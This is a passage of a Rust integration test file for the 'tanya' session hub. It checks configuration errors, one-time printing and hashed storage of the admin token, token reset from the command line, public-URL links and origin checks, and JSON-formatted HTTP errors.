    assert!(err.contains("TANYA_LISTEN"), "{err}");

    let file = dir.path().join("bad.toml");
    std::fs::write(&file, "[limits]\nframes_burst = 0\n").unwrap();
    let mut cmd = tanya();
    cmd.arg("serve")
        .arg("--config")
        .arg(&file)
        .current_dir(dir.path())
        .env("TANYA_LISTEN", "127.0.0.1:0")
        .env("TANYA_DATABASE", &db);
    let out = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("frames_burst"), "{err}");

    let mut cmd = tanya();
    cmd.arg("serve")
        .current_dir(dir.path())
        .env("TANYA_LISTEN", "127.0.0.1:0")
        .env("TANYA_DATABASE", &db)
        .env("TANYA_ASKS_PER_MINUTE", "banyak");
    let out = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("TANYA_ASKS_PER_MINUTE"), "{err}");
}

/// A hub started by the test itself, with its stderr lines on a channel.
struct OwnHub {
    child: Child,
    lines: mpsc::Receiver<String>,
    addr: String,
    /// stderr lines up to "listening on".
    early: Vec<String>,
}

impl OwnHub {
    fn start(dir: &std::path::Path) -> Self {
        let mut cmd = tanya();
        cmd.arg("serve")
            .current_dir(dir)
            .env("TANYA_LISTEN", "127.0.0.1:0")
            .env(
                "TANYA_DATABASE",
                format!("sqlite://{}", dir.join("data/own.db").display()),
            )
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("start tanya");
        let pipe = child.stderr.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for l in BufReader::new(pipe).lines().map_while(Result::ok) {
                if tx.send(l).is_err() {
                    break;
                }
            }
        });
        let mut early = Vec::new();
        let addr = loop {
            let l = lines
                .recv_timeout(Duration::from_secs(30))
                .unwrap_or_else(|_| panic!("hub did not start: {early:?}"));
            if let Some(a) = l.strip_prefix("listening on http://") {
                break a.to_string();
            }
            early.push(l);
        };
        Self {
            child,
            lines,
            addr,
            early,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn stop(mut self) -> Vec<String> {
        let _ = Command::new("kill")
            .arg("-TERM")
            .arg(self.child.id().to_string())
            .status();
        let t = Instant::now();
        while self.child.try_wait().unwrap().is_none() && t.elapsed() < Duration::from_secs(8) {
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
        let mut rest = self.early.clone();
        rest.extend(self.lines.try_iter());
        rest
    }
}

impl Drop for OwnHub {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[tokio::test]
async fn a_generated_admin_token_is_printed_once_and_kept() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_path_buf();
    let hub = tokio::task::spawn_blocking(move || OwnHub::start(&d))
        .await
        .unwrap();
    let line = hub
        .early
        .iter()
        .find(|l| l.contains("admin token: "))
        .unwrap_or_else(|| panic!("the first start prints the admin token: {:?}", hub.early))
        .clone();
    let token = line
        .split_once("admin token: ")
        .unwrap()
        .1
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    assert!(token.len() >= 16, "{line}");
    let (st, v) = http_json(
        "POST",
        &hub.url("/api/sessions"),
        Some(&token),
        Some(r#"{"title":"Dengan token buatan"}"#),
    )
    .await;
    assert_eq!(st, 201, "{v}");
    let (st, _) = http_json(
        "POST",
        &hub.url("/api/sessions"),
        Some("not-the-token-0123456789"),
        Some(r#"{"title":"x"}"#),
    )
    .await;
    assert_eq!(st, 401);
    let first = tokio::task::spawn_blocking(move || hub.stop())
        .await
        .unwrap();
    assert_eq!(
        first.iter().filter(|l| l.contains("admin token: ")).count(),
        1,
        "{first:?}"
    );

    let d = dir.path().to_path_buf();
    let hub = tokio::task::spawn_blocking(move || OwnHub::start(&d))
        .await
        .unwrap();
    let (st, v) = http_json(
        "POST",
        &hub.url("/api/sessions"),
        Some(&token),
        Some(r#"{"title":"Token yang sama"}"#),
    )
    .await;
    assert_eq!(st, 201, "the same token works after a restart: {v}");
    let (st, v) = http_json("GET", &hub.url("/api/sessions"), Some(&token), None).await;
    assert_eq!(st, 200);
    assert_eq!(v["sessions"].as_array().unwrap().len(), 2);
    let second = tokio::task::spawn_blocking(move || hub.stop())
        .await
        .unwrap();
    assert!(
        second.iter().all(|l| !l.contains("admin token")),
        "the token is printed once only: {second:?}"
    );
    assert!(
        second.iter().all(|l| !l.contains(&token)),
        "the token never reaches the log again: {second:?}"
    );
    assert_not_in_files(&dir.path().join("data"), &token);
}

/// No file in `dir` (the database, its WAL) holds `secret`.
fn assert_not_in_files(dir: &std::path::Path, secret: &str) {
    let mut seen = 0;
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        let bytes = std::fs::read(&p).unwrap();
        seen += 1;
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{} holds the admin token in clear",
            p.display()
        );
    }
    assert!(seen > 0, "files to look in");
}

/// `tanya admin reset-token` makes a new token that a running hub accepts at once, and the old
/// one stops working; a token an earlier version kept in clear is moved to its hash at start.
#[tokio::test]
async fn a_lost_admin_token_is_reset_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("data/own.db");
    // An earlier version kept a generated token in clear.
    let legacy = "legacy-admin-token-kept-in-clear-0123";
    {
        let store = tanya::store::open(&format!("sqlite://{}", db.display()))
            .await
            .unwrap();
        store
            .setting_or_insert("admin_token", legacy)
            .await
            .unwrap();
    }
    let d = dir.path().to_path_buf();
    let hub = tokio::task::spawn_blocking(move || OwnHub::start(&d))
        .await
        .unwrap();
    assert!(
        hub.early.iter().all(|l| !l.contains("admin token:")),
        "no new token printed: {:?}",
        hub.early
    );
    let create = |token: String, title: &'static str| {
        let url = hub.url("/api/sessions");
        async move {
            http_json(
                "POST",
                &url,
                Some(&token),
                Some(&format!(r#"{{"title":"{title}"}}"#)),
            )
            .await
            .0
        }
    };
    assert_eq!(create(legacy.into(), "Token lama").await, 201);
    assert_not_in_files(&dir.path().join("data"), legacy);

    // Reset while the hub runs.
    let mut cmd = tanya();
    cmd.args(["admin", "reset-token"])
        .env("TANYA_DATABASE", format!("sqlite://{}", db.display()));
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed = String::from_utf8_lossy(&out.stdout).to_string();
    let fresh = printed
        .trim()
        .strip_prefix("admin token: ")
        .unwrap_or_else(|| panic!("{printed:?}"))
        .to_string();
    assert!(fresh.len() >= 24, "{fresh}");
    assert_eq!(create(fresh.clone(), "Token baru").await, 201);
    assert_eq!(create(legacy.into(), "Token lama lagi").await, 401);
    assert_not_in_files(&dir.path().join("data"), &fresh);

    // With a token in the settings there is nothing to reset here.
    let mut cmd = tanya();
    cmd.args(["admin", "reset-token"])
        .env("TANYA_DATABASE", format!("sqlite://{}", db.display()))
        .env("TANYA_ADMIN_TOKEN", "configured-admin-token-0123456789");
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("TANYA_ADMIN_TOKEN"));
    drop(hub);
}

#[tokio::test]
async fn public_url_is_the_base_of_links_and_an_own_origin() {
    let server = TestServer::start_with(&[("TANYA_PUBLIC_URL", "https://tanya.example.org/")]);
    let v = server
        .create_session("Dengan alamat publik", json!([]))
        .await;
    assert_session_shape(&v, "Dengan alamat publik");
    let code = v["code"].as_str().unwrap();
    assert_eq!(
        v["links"]["audience"],
        json!(format!("https://tanya.example.org/j/{code}"))
    );
    for k in ["press", "moderator", "screen", "overlay"] {
        let l = v["links"][k].as_str().unwrap();
        assert!(l.starts_with("https://tanya.example.org/"), "{l}");
        assert!(!l.contains(".org//"), "{l}");
    }
    assert_eq!(
        ws_status(&server, Some("https://tanya.example.org")).await,
        101,
        "TANYA_PUBLIC_URL is the hub's own origin"
    );
    assert_eq!(ws_status(&server, Some("https://example.org")).await, 403);
}

/// docs/protocol.md, HTTP: "Errors are JSON {"error":{"code":"...","message":"..."}} on every route" — also the errors the
/// web framework makes by itself (wrong method, body too large, a query it cannot read).
#[tokio::test]
async fn every_http_error_is_json() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    let big = json!({"title": "x".repeat(70_000)}).to_string();
    let cases: Vec<(&str, String, Option<&str>)> = vec![
        ("PUT", "/api/sessions".into(), Some("{}")),
        ("DELETE", format!("/api/sessions/{}/export", s.id), None),
        ("POST", "/healthz".into(), Some("{}")),
        ("POST", "/api/sessions".into(), Some(&big)),
        (
            "GET",
            format!("/api/sessions/{}/live.json?k=a&k=b", s.id),
            None,
        ),
    ];
    let mut bad = Vec::new();
    for (method, path, body) in cases {
        let (st, headers, text) = http(method, &server.http(&path), Some(ADMIN), body).await;
        assert!((400..500).contains(&st), "{method} {path}: {st}");
        let json_ok = serde_json::from_str::<Value>(&text).is_ok_and(|v| {
            v["error"]["code"].is_string()
                && v["error"]["message"]
                    .as_str()
                    .is_some_and(|m| !m.is_empty())
        });
        if !json_ok {
            bad.push(format!(
                "{method} {path}: {st} {:?} {text:?}",
                header(&headers, "content-type")
            ));
        }
    }
    assert!(
        bad.is_empty(),
        "HTTP errors that are not JSON:\n{}",
        bad.join("\n")
    );
}
